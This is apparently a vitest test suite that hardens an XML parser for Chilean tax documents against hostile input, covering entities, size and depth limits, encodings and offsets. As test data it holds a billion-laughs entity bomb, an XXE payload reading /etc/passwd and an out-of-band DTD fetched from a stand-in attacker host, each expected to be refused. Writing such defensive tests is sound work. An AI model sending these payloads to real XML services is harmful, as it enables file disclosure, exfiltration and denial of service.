/**
 * Hostile input for the XML parser: received XML comes from third parties (suppliers' DTEs, SII
 * answers, uploaded CAFs) and must not expand entities, read files, exhaust memory or the stack,
 * or silently mis-decode bytes.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TimbreError } from '../src/errors.js';
import { child, childText, findAll, parseXml, type XmlElement } from '../src/xml/parse.js';

function codeOf(f: () => unknown): string {
  try {
    f();
  } catch (e) {
    if (e instanceof TimbreError) return e.code;
    throw e;
  }
  throw new Error('expected a TimbreError, nothing was thrown');
}

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

afterEach(() => {
  vi.restoreAllMocks();
});

describe('DOCTYPE and entities', () => {
  it('refuses billion laughs without expanding anything', () => {
    const lol =
      '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n') +
      '\n]>\n<lolz>&lol9;</lolz>';
    const t0 = performance.now();
    expect(codeOf(() => parseXml(latin1(lol)))).toBe('ERR_XML_FORBIDDEN_FEATURE');
    expect(performance.now() - t0).toBeLessThan(1000);
  });

  it('refuses any DOCTYPE, even an empty or harmless one', () => {
    expect(codeOf(() => parseXml('<!DOCTYPE a><a/>'))).toBe('ERR_XML_FORBIDDEN_FEATURE');
    expect(codeOf(() => parseXml('<?xml version="1.0"?><!DOCTYPE DTE PUBLIC "-//x//EN" "DTE.dtd"><DTE/>'))).toBe('ERR_XML_FORBIDDEN_FEATURE');
  });

  it('refuses an unterminated DOCTYPE and a DOCTYPE inside the root as forbidden, not merely malformed', () => {
    expect(codeOf(() => parseXml('<!DOCTYPE a [<!ENTITY x "y"><a>&x;</a>'))).toBe('ERR_XML_FORBIDDEN_FEATURE');
    expect(codeOf(() => parseXml('<a><!DOCTYPE a></a>'))).toBe('ERR_XML_FORBIDDEN_FEATURE');
  });

  it('refuses an external entity and never reads the file', () => {
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>';
    let err: unknown;
    try {
      parseXml(latin1(xxe));
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(TimbreError);
    expect((err as TimbreError).code).toBe('ERR_XML_FORBIDDEN_FEATURE');
    // Nothing of the file may surface anywhere in the error.
    let passwdFirstLine = 'root:';
    try {
      passwdFirstLine = readFileSync('/etc/passwd', 'latin1').split('\n')[0] ?? 'root:';
    } catch {
      /* no /etc/passwd: the marker stays */
    }
    expect(JSON.stringify((err as TimbreError).toJSON())).not.toContain(passwdFirstLine);
    expect(String((err as Error).message)).not.toContain(passwdFirstLine);
  });

  it('refuses a parameter-entity (out-of-band) DTD', () => {
    const oob = '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]><r/>';
    expect(codeOf(() => parseXml(oob))).toBe('ERR_XML_FORBIDDEN_FEATURE');
  });

  it('reports an undefined entity as malformed', () => {
    expect(codeOf(() => parseXml('<a>&nbsp;</a>'))).toBe('ERR_XML_MALFORMED');
    expect(codeOf(() => parseXml('<a b="&foo;"/>'))).toBe('ERR_XML_MALFORMED');
  });

  it('expands the five predefined entities and character references', () => {
    const doc = parseXml('<a t="&lt;&gt;&amp;&quot;&apos;&#x20AC;&#9;">&lt;&gt;&amp;&quot;&apos;&#209;&#x1F600;</a>');
    expect(doc.root.attributes[0]?.value).toBe('<>&"\'€\t');
    expect(childTextRaw(doc.root)).toBe('<>&"\'Ñ\u{1F600}');
  });
});

function childTextRaw(el: XmlElement): string {
  return el.children.map((c) => (c.type === 'text' ? c.value : '')).join('');
}

describe('size and depth limits', () => {
  it('refuses 50 MB of bytes before decoding them', () => {
    const big = new Uint8Array(50 * 1024 * 1024); // allocated by the test, not by the parser
    big.set(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>'));
    const decode = vi.spyOn(TextDecoder.prototype, 'decode');
    const toString = vi.spyOn(Buffer.prototype, 'toString');
    const t0 = performance.now();
    expect(codeOf(() => parseXml(big))).toBe('ERR_XML_TOO_LARGE');
    const elapsed = performance.now() - t0;
    expect(decode).not.toHaveBeenCalled();
    expect(toString).not.toHaveBeenCalled();
    expect(elapsed).toBeLessThan(200);
  });

  it('refuses a 50 MB string before parsing it', () => {
    const s = '<a>' + 'x'.repeat(50 * 1024 * 1024) + '</a>';
    const t0 = performance.now();
    expect(codeOf(() => parseXml(s))).toBe('ERR_XML_TOO_LARGE');
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('honours a smaller maxBytes and maxElements', () => {
    expect(codeOf(() => parseXml('<a>12345</a>', { maxBytes: 8 }))).toBe('ERR_XML_TOO_LARGE');
    expect(codeOf(() => parseXml('<a><b/><b/><b/></a>', { maxElements: 3 }))).toBe('ERR_XML_TOO_LARGE');
    expect(parseXml('<a><b/><b/></a>', { maxElements: 3 }).root.children).toHaveLength(2);
  });

  it('refuses 10,000-deep nesting with ERR_XML_TOO_DEEP (no stack overflow)', () => {
    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
    expect(codeOf(() => parseXml(deep))).toBe('ERR_XML_TOO_DEEP');
    // The limit is the parser's, not the stack's: with a raised limit the same input parses.
    const doc = parseXml(deep, { maxDepth: 20_000 });
    let depth = 0;
    for (let e: XmlElement | undefined = doc.root; e; e = child(e, 'a')) depth++;
    expect(depth).toBe(10_000);
  });

  it('accepts exactly maxDepth levels', () => {
    expect(parseXml('<a><a><a/></a></a>', { maxDepth: 3 }).root.name).toBe('a');
    expect(codeOf(() => parseXml('<a><a><a><a/></a></a></a>', { maxDepth: 3 }))).toBe('ERR_XML_TOO_DEEP');
  });
});

describe('malformed input', () => {
  it.each([
    ['truncated', '<DTE><Documento ID="F1"><Folio>1</Folio>'],
    ['truncated mid-tag', '<DTE><Documento ID="F1'],
    ['mismatched tags', '<a><b></a></b>'],
    ['two roots', '<a/><b/>'],
    ['empty', ''],
    ['text only', 'hello'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['unbound prefix', '<p:a/>'],
    ['< in attribute', '<a x="<"/>'],
  ])('%s → ERR_XML_MALFORMED', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('ERR_XML_MALFORMED');
  });
});

describe('encodings', () => {
  it('windows-1252: byte 0x80 is the euro sign', () => {
    const doc = parseXml(Buffer.concat([latin1('<?xml version="1.0" encoding="windows-1252"?><a>'), Buffer.from([0x80, 0x93, 0x94]), latin1('</a>')]));
    expect(doc.encoding).toBe('windows-1252');
    expect(childTextRaw(doc.root)).toBe('€\u201C\u201D');
  });

  it('windows-1252: every defined byte 0x80..0x9F decodes as libxml2 (xmllint) decodes it', () => {
    // 0x81, 0x8D, 0x8F, 0x90, 0x9D are undefined in windows-1252 (libxml2/iconv refuse them).
    const bytes = Array.from({ length: 32 }, (_, i) => 0x80 + i).filter((b) => ![0x81, 0x8d, 0x8f, 0x90, 0x9d].includes(b));
    const xml = Buffer.concat([latin1('<?xml version="1.0" encoding="windows-1252"?><a>'), Buffer.from(bytes), latin1('</a>')]);
    const dir = mkdtempSync(join(tmpdir(), 'timbre-parse-'));
    try {
      const file = join(dir, 'w.xml');
      writeFileSync(file, xml);
      const oracle = execFileSync('xmllint', ['--encode', 'UTF-8', file]).toString('utf8');
      const expected = oracle.slice(oracle.indexOf('<a>') + 3, oracle.indexOf('</a>'));
      expect(expected).toHaveLength(bytes.length);
      expect(childTextRaw(parseXml(xml).root)).toBe(expected);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('ISO-8859-1: Ñ and á decode, and 0x80 stays a C1 control (no silent windows-1252)', () => {
    const doc = parseXml(latin1('<?xml version="1.0" encoding="ISO-8859-1"?><RznSoc>COMPAÑÍA ANDINA Á\x80</RznSoc>'));
    expect(doc.encoding).toBe('ISO-8859-1');
    expect(doc.declaredEncoding).toBe('ISO-8859-1');
    expect(childTextRaw(doc.root)).toBe('COMPAÑÍA ANDINA Á\u0080');
  });

  it('UTF-8 with a BOM', () => {
    const doc = parseXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>Ñandú</a>', 'utf8')]));
    expect(doc.encoding).toBe('UTF-8');
    expect(doc.encodingGuessed).toBe(false);
    expect(childTextRaw(doc.root)).toBe('Ñandú');
  });

  it('UTF-16LE with a BOM', () => {
    const doc = parseXml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>Ñ</a>', 'utf16le')]));
    expect(doc.encoding).toBe('UTF-16LE');
    expect(childTextRaw(doc.root)).toBe('Ñ');
  });

  it('undeclared Latin-1 bytes (a CAF file) decode as Latin-1', () => {
    const caf = latin1('<AUTORIZACION><CAF version="1.0"><DA><RE>76354771-K</RE><RS>FERRETERÍA EL ÑANDÚ</RS></DA></CAF></AUTORIZACION>');
    const doc = parseXml(caf);
    expect(doc.encoding).toBe('ISO-8859-1');
    expect(doc.encodingGuessed).toBe(true);
    expect(childText(findAll(doc.root, 'DA')[0] as XmlElement, 'RS')).toBe('FERRETERÍA EL ÑANDÚ');
  });

  it('undeclared valid UTF-8 decodes as UTF-8', () => {
    const doc = parseXml(Buffer.from('<a>Ñ</a>', 'utf8'));
    expect(doc.encoding).toBe('UTF-8');
    expect(doc.encodingGuessed).toBe(true);
    expect(childTextRaw(doc.root)).toBe('Ñ');
  });

  it('invalid UTF-8 under a UTF-8 declaration → ERR_XML_ENCODING (no replacement characters)', () => {
    const bytes = Buffer.concat([latin1('<?xml version="1.0" encoding="UTF-8"?><a>'), Buffer.from([0xd1]), latin1('</a>')]);
    expect(codeOf(() => parseXml(bytes))).toBe('ERR_XML_ENCODING');
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), latin1('<a>\xd1</a>')]);
    expect(codeOf(() => parseXml(bom))).toBe('ERR_XML_ENCODING');
  });

  it.each(['Shift_JIS', 'EBCDIC-XYZ', 'UTF-7'])('unknown encoding %s → ERR_XML_ENCODING', (enc) => {
    expect(codeOf(() => parseXml(latin1(`<?xml version="1.0" encoding="${enc}"?><a/>`)))).toBe('ERR_XML_ENCODING');
  });
});

describe('tree and offsets', () => {
  it('records exact start/end offsets of every element (for splicing), CRLF and ">" in attributes included', () => {
    const text = '<?xml version="1.0"?>\r\n<r xmlns="urn:r" xmlns:p="urn:p">\r\n <p:b x="1>2"/><c\n>t</c\n><d></d></r>\r\n';
    const doc = parseXml(text);
    const slices = (el: XmlElement): string[] => [text.slice(el.start, el.end), ...el.children.flatMap((c) => (c.type === 'element' ? slices(c) : []))];
    expect(slices(doc.root)).toEqual(['<r xmlns="urn:r" xmlns:p="urn:p">\r\n <p:b x="1>2"/><c\n>t</c\n><d></d></r>', '<p:b x="1>2"/>', '<c\n>t</c\n>', '<d></d>']);
  });

  it('resolves namespaces and keeps declarations apart from attributes', () => {
    const doc = parseXml('<r xmlns="urn:r" xmlns:p="urn:p" p:a="1" b="2"><p:c xml:lang="es"/></r>');
    expect(doc.root.uri).toBe('urn:r');
    expect(doc.root.nsDecls).toEqual([
      { prefix: '', uri: 'urn:r' },
      { prefix: 'p', uri: 'urn:p' },
    ]);
    expect(doc.root.attributes.map((a) => [a.name, a.uri])).toEqual([
      ['p:a', 'urn:p'],
      ['b', ''],
    ]);
    const c = child(doc.root, 'c') as XmlElement;
    expect(c.uri).toBe('urn:p');
    expect(c.attributes[0]?.uri).toBe('http://www.w3.org/XML/1998/namespace');
  });
});
